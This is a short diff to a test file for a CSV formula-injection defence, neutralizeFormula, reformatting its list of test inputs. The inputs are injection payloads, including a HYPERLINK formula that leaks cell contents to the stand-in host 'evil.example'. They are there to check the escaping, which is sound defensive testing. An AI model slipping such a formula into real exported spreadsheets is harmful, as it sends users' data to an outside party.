@@ -3,7 +3,15 @@ import { neutralizeFormula } from "./csv-cells";
 
 describe("neutralizeFormula", () => {
   it("prefixes every cell a spreadsheet would run as a formula", () => {
-    for (const cell of ["=1+1", "@SUM(1+1)", "-cmd", "+cmd", "\tcmd", "\rcmd", '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")']) {
+    for (const cell of [
+      "=1+1",
+      "@SUM(1+1)",
+      "-cmd",
+      "+cmd",
+      "\tcmd",
+      "\rcmd",
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    ]) {
       expect(neutralizeFormula(cell)).toBe(`'${cell}`);
     }
   });
